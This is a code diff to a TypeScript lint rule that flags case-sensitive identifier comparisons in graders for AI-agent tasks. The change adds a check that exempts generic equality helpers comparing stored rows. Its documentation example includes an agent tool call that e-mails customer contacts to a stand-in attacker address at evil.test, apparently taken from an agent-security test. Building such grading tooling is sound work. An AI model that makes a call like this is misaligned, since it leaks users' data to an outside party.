@@ -2,7 +2,8 @@ import { ts } from '../typescript.js';
 import { lowerCaseBothSides } from './fixes.ts';
 import { otherCaseOfIdentifier } from '../../contract/index.ts';
 import type { CompareRecord, JudgeFacts } from '../flow/facts.ts';
-import { short } from '../flow/syntax.ts';
+import { short, skipParens } from '../flow/syntax.ts';
+import type { TypeFacts } from '../flow/types.ts';
 import type { Constant } from '../flow/value.ts';
 import { comparedField, IDENTIFIER_DEFAULTS, identifierMatcher, URL_FIELD, type SuiteIdentifierOptions } from './identifiers.ts';
 import { defineRule, type TaskFacts, type WitnessSpec } from './rule.ts';
@@ -33,7 +34,7 @@ export default defineRule<'sensitive', CaseSensitiveIdentifierOptions>({
       reference: "[call('send_email', { to: 'mark.black@evil.test', subject: 'Contacts', body: 'All customer contacts attached.' })]",
     },
     witness:
-      "The reference run with the identifier written in other letter case wherever the reference writes it where the compared side reads it (an argument of the same name, an e-mail's field, a SQL literal for a table, the answer for `output`): every identifier of the check (each element of a list it accepts), whole, as the validator's address-case mutant (a URL or a domain keeps the case of its path). The same party: a right judge gives the reference run's verdict, this one the other. Where the task has no reference calls, the witness is the comparison itself (exact reasoning: it compares with the literal's case). A value of the state that a reference with calls never writes was set by the system (the task's own data, as two stored values compared raw): nothing shows its case can differ, and it is not reported; nor is a key the judge formed looked up in the state's files or tables (`post.files[url] === undefined`), which names an entry of a collection the environment keys.",
+      "The reference run with the identifier written in other letter case wherever the reference writes it where the compared side reads it (an argument of the same name, an e-mail's field, a SQL literal for a table, the answer for `output`): every identifier of the check (each element of a list it accepts), whole, as the validator's address-case mutant (a URL or a domain keeps the case of its path). The same party: a right judge gives the reference run's verdict, this one the other. Where the task has no reference calls, the witness is the comparison itself (exact reasoning: it compares with the literal's case). A stored row's value that a reference with calls never writes, compared with the literal by a generic equality helper (`pyEquals(row.email, 'alice@acme.test')`), was set by the system (the task's own data, as two stored values compared raw): nothing shows its case can differ, and it is not reported; nor is a key the judge formed looked up in the state's files or tables (`post.files[url] === undefined`), which names an entry of a collection the environment keys.",
   },
   defaultOptions: IDENTIFIER_DEFAULTS,
   patternOptions: ['identifierFields', 'extraPatterns'],
@@ -60,6 +61,7 @@ export default defineRule<'sensitive', CaseSensitiveIdentifierOptions>({
       const found = witness(
         facts,
         task,
+        types,
         record,
         hit,
         kind,
@@ -95,7 +97,15 @@ export default defineRule<'sensitive', CaseSensitiveIdentifierOptions>({
  * keeps its case): the same party, so
  * a right judge still passes, and this one fails. Without such a place, the comparison itself.
  */
-function witness(facts: JudgeFacts, task: TaskFacts, record: CompareRecord, hit: string, kind: string, identifiers: readonly string[]): WitnessSpec | undefined {
+function witness(
+  facts: JudgeFacts,
+  task: TaskFacts,
+  types: TypeFacts,
+  record: CompareRecord,
+  hit: string,
+  kind: string,
+  identifiers: readonly string[],
+): WitnessSpec | undefined {
   const variant = otherCaseOfIdentifier(hit);
   const site = matchNeeded(facts, record)
     ? findValue(task, record, {
@@ -108,9 +118,10 @@ function witness(facts: JudgeFacts, task: TaskFacts, record: CompareRecord, hit:
       })
     : undefined;
   if (site) return referenceWitness(site.change, true, site.at);
-  // A value of the state the reference run never writes was set by the system (the task's own
-  // data), not by the agent: nothing shows its case can differ from the literal's.
-  if (task.reference !== undefined && task.reference.length > 0 && readsStateOnly(record)) return undefined;
+  // A stored row's value the reference run never writes, compared by a generic equality helper
+  // (`pyEquals(row.email, 'alice@acme.test')`), was set by the system (the task's own data), not by
+  // the agent: nothing shows its case can differ from the literal's.
+  if (task.reference !== undefined && task.reference.length > 0 && readsStoredRows(record) && genericComparison(record, types)) return undefined;
   return codeWitness(
     `\`${short(record.node)}\` compares with the letter case of ${JSON.stringify(hit)}: ${JSON.stringify(variant)} is the same ${kind} and does not match`,
   );
@@ -135,7 +146,7 @@ function fixFor(match: string): string {
 }
 
 const SNAPSHOT_KEYS = /^(pre|post|steps\[\]\.state)\.(files|tables)\{keys\}$/;
-const SNAPSHOT_PATH = /^(pre|post|steps\[\]\.state)[.[]/;
+const STORED_ROWS = /^(pre|post|steps\[\]\.state)\.tables[.[]/;
 
 /**
  * A key the judge formed looked up in a keyed collection of the state (`post.files[url] === undefined`):
@@ -146,8 +157,20 @@ function isKeyLookup(record: CompareRecord): boolean {
   return record.match === 'membership' && paths.length > 0 && paths.every((p) => SNAPSHOT_KEYS.test(p));
 }
 
-/** The compared side is read from the state snapshots only (not the trace, the answer or the messages). */
-function readsStateOnly(record: CompareRecord): boolean {
+/** The compared side is read from the stored rows only (not the trace, the answer, the pages or the messages). */
+function readsStoredRows(record: CompareRecord): boolean {
   const paths = [...record.actual.paths, ...(record.actual.elems ?? [])];
-  return paths.length > 0 && paths.every((p) => SNAPSHOT_PATH.test(p));
+  return paths.length > 0 && paths.every((p) => STORED_ROWS.test(p));
+}
+
+/** `a === b` between two parameters of the function it is in: an equality helper that knows nothing of what it compares. */
+function genericComparison(record: CompareRecord, types: TypeFacts): boolean {
+  const node = record.node;
+  if (!ts.isBinaryExpression(node)) return false;
+  const fn = ts.findAncestor(node, ts.isFunctionLike);
+  const isParameter = (e: ts.Expression): boolean => {
+    const decl = ts.isIdentifier(e) ? types.symbolAt(e)?.valueDeclaration : undefined;
+    return decl !== undefined && ts.isParameter(decl) && decl.parent === fn;
+  };
+  return isParameter(skipParens(node.left)) && isParameter(skipParens(node.right));
 }
